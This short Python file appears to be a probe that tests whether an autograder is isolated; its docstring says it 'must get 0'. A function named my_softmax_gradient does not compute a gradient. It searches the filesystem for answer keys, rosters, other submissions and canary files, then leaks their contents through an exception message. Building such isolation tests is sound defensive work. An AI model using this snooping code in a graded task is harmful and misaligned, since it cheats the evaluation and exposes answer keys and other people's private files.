"""Looks for keys, homes and other submissions under every path that it can guess and shows what it reads; must get 0."""

import glob
import os

PATTERNS = ("*.key", "*.ipynb", "*.results.json", "roster*.csv", "*.jsonl", "canary*")
SYSTEM = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin"}
TOPS = [".", *(f"/{name}" for name in os.listdir("/") if name not in SYSTEM)]


def my_softmax_gradient(z, y):
    found = []
    for top in TOPS:
        for folder, folders, names in os.walk(top):
            folders[:] = [one for one in folders if one != "site-packages"]
            found += [
                os.path.join(folder, name) for name in names if any(glob.fnmatch.fnmatch(name, p) for p in PATTERNS)
            ]
    for path in found[:20]:
        with open(path, errors="replace") as file:
            raise ValueError(path + file.read()[:150])
    return z
